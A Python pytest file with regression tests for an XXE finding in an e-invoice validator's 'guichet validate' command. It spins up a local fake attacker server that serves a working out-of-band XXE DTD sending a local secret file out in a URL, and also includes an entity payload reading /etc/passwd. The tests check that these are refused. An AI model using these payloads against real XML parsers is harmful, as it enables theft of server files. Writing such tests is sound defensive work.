"""Issue 11, finding 7: XXE through ``guichet validate``.

The attack: an XML invoice whose DOCTYPE names an external DTD on the attacker's
server; Saxon (the official schematron layer) fetched the DTD, which read a local
file into a parameter entity and sent it back in a URL. Now every XML reaches Saxon
only after the pipeline's safe parser accepted it (no DOCTYPE, no entities, no network).
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from click.testing import CliRunner

from guichet.plugins.validate_en16931 import engine as official
from guichet.plugins.validate_en16931 import validate_command

INVOICE = """<?xml version="1.0"?>
<!DOCTYPE rsm:CrossIndustryInvoice SYSTEM "{dtd}">
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"
  xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100">
 <rsm:ExchangedDocumentContext><ram:GuidelineSpecifiedDocumentContextParameter>
  <ram:ID>urn:cen.eu:en16931:2017</ram:ID></ram:GuidelineSpecifiedDocumentContextParameter>
 </rsm:ExchangedDocumentContext>
 <rsm:ExchangedDocument><ram:ID>F1</ram:ID></rsm:ExchangedDocument>
</rsm:CrossIndustryInvoice>
"""


@pytest.fixture
def attacker(tmp_path):
    """The attacker's HTTP server: serves a DTD that sends a local file back in a URL; records every request."""
    secret = tmp_path / "secret_key"
    secret.write_text("cle-de-l-instance")

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # http.server's naming
            server.requests.append(self.path)
            body = (f'<!ENTITY % file SYSTEM "file://{secret}">'
                    f'<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'{server.base}/x?%file;\'>">%eval;%exfil;')
            self.send_response(200)
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.requests = []
    server.base = f"http://127.0.0.1:{server.server_port}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


def test_validate_never_lets_saxon_fetch_an_external_dtd(attacker, tmp_path):
    evil = tmp_path / "facture.xml"
    evil.write_text(INVOICE.format(dtd=f"{attacker.base}/evil.dtd"))
    result = CliRunner().invoke(validate_command, [str(evil), "--json"])
    assert attacker.requests == []  # neither the DTD nor the file went out
    report = json.loads(result.output)
    assert not report["valid"] and result.exit_code == 1
    saxon_layer = [f for f in report["findings"] if f["rule"] == "XML"]  # the Saxon path's own refusal
    assert saxon_layer and all("DOCTYPE" in f["message"] for f in saxon_layer)
    assert "cle-de-l-instance" not in result.output


def test_the_saxon_entry_refuses_entities_whoever_calls_it(attacker):
    xml = INVOICE.format(dtd=f"{attacker.base}/evil.dtd").encode()
    (finding,) = official.schematron("en16931", xml)
    assert finding.rule == "XML" and finding.severity == "fatal"
    local = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    (finding,) = official.schematron("en16931", local)
    assert "DOCTYPE" in finding.message
    assert attacker.requests == []
